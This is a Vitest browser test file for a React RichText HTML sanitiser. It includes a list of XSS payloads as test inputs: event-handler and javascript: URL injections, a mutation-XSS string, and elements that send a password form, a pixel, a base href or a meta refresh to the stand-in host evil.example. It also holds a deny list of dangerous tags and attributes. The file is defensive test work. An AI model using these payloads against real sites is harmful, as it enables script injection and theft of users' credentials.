import { createMemoryRouter, RouterProvider } from 'react-router'
import { expect, it, vi } from 'vitest'
import { render } from 'vitest-browser-react'
import { RichText } from './RichText.tsx'

async function show(html: string) {
  const router = createMemoryRouter([
    { path: '/', element: <RichText html={html} /> },
    { path: '*', element: <p>arrived</p> },
  ])
  return render(<RouterProvider router={router} />)
}

it('keeps harmless markup', { tags: ['WIDGET-11'] }, async () => {
  const { container, getByRole } = await show('<p>Un <strong>péage</strong>, <a href="/help">aide</a></p>')
  await expect.element(getByRole('link', { name: 'aide' })).toHaveAttribute('href', '/help')
  expect(container.querySelector('strong')?.textContent).toBe('péage')
})

it.each([
  ['un <strong>péage</strong> et un <strong>reçu</strong>', 'un <strong>péage</strong> et un <strong>reçu</strong>'],
  ['<strong>1</strong>', '<strong>1</strong>'],
  ['1 > 0', '1 &gt; 0'],
])('needs no sanitiser for %s', async (html, shown) => {
  const { container } = await show(html)
  expect(container.innerHTML).toContain(`<p>${shown}</p>`)
})

it.each(['<strong onclick="window.hit=1">x</strong>', '<strong>x', '<strong><i>x</strong></i>', '&#106;', '<b>x</b>'])(
  'leaves %s to the sanitiser',
  async (html) => {
    const { container } = await show(`${html}<p>before</p>`)
    await expect.poll(() => container.querySelector('.rich-text')).not.toBeNull()
    expect(container.innerHTML).not.toContain('onclick')
  },
)

it('shows plain text unchanged', async () => {
  const { getByText } = await show('1 and 2')
  await expect.element(getByText('1 and 2')).toBeVisible()
})

it.each([
  '<img src=x onerror="window.hit=1">',
  '<svg onload="window.hit=1"></svg>',
  '<script>window.hit=1</script>',
  '<a href="javascript:window.hit=1">x</a>',
  '<a href="JaVaScRiPt&colon;window.hit=1">x</a>',
  '<a href="\u0001javascript:window.hit=1">x</a>',
  '<a href="data:text/html,<script>window.hit=1</script>">x</a>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  '<form action="//evil.example"><input name="password"><button>ok</button></form>',
  '<p style="background:url(//evil.example)">x</p>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<object data="x"></object><embed src="x">',
  '<p id="root" name="location">x</p>',
])('lets nothing run or call out: %s', { tags: ['F-XSS-01', 'F-XSS-02'] }, async (html) => {
  const fetched = vi.spyOn(window, 'fetch')
  const { container, getByText } = await show(`<p>before</p>${html}`)
  await expect.element(getByText('before').first()).toBeInTheDocument()
  for (const element of container.querySelectorAll('.rich-text *')) {
    expect([
      'SCRIPT',
      'IFRAME',
      'FORM',
      'INPUT',
      'BUTTON',
      'OBJECT',
      'EMBED',
      'STYLE',
      'SVG',
      'BASE',
      'META',
    ]).not.toContain(element.tagName.toUpperCase())
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^id$|^name$|^srcdoc$/)
      expect(value).not.toMatch(/evil\.example|javascript|data:/i)
    }
  }
  expect(Reflect.get(window, 'hit')).toBeUndefined()
  expect(fetched).not.toHaveBeenCalled()
  fetched.mockRestore()
})

it('gives links to new windows no access to the page', { tags: ['F-XSS-03'] }, async () => {
  const { getByRole } = await show('<p><a href="https://example.org/" target="_blank">dehors</a></p>')
  await expect.element(getByRole('link', { name: 'dehors' })).toHaveAttribute('rel', 'noopener noreferrer')
})

it('opens internal links inside the portal', async () => {
  const { getByRole, getByText } = await show('<p><a href="/help/1">aide</a></p>')
  await getByRole('link', { name: 'aide' }).click()
  await expect.element(getByText('arrived')).toBeVisible()
})

it('leaves links to files of the server as they are', async () => {
  const { getByRole } = await show('<p><a href="/media/terms.pdf">CGU</a></p>')
  await expect.element(getByRole('link', { name: 'CGU' })).toHaveAttribute('href', '/media/terms.pdf')
})
